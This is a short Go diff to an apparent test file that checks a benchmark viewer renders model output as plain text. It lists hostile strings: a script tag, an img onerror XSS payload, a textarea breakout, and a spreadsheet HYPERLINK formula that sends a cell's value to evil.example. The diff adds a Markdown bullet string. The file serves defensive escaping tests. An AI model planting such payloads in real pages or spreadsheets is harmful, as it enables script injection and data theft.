@@ -25,7 +25,7 @@ import (
 )
 
 // hostile is model output that must render as text everywhere.
-var hostile = []string{`<script>alert(1)</script>`, `<img src=x onerror=alert(2)>`, `</textarea><b>bold</b>`, `=HYPERLINK("http://evil.example/?d="&A1,"x")`}
+var hostile = []string{`<script>alert(1)</script>`, `<img src=x onerror=alert(2)>`, `</textarea><b>bold</b>`, `=HYPERLINK("http://evil.example/?d="&A1,"x")`, "- a Markdown bullet\n- and another"}
 
 // seed builds a store with a small DeflectBench run whose model-a refuses
 // every manipulation prompt and writes hostile text elsewhere, and a Scheme
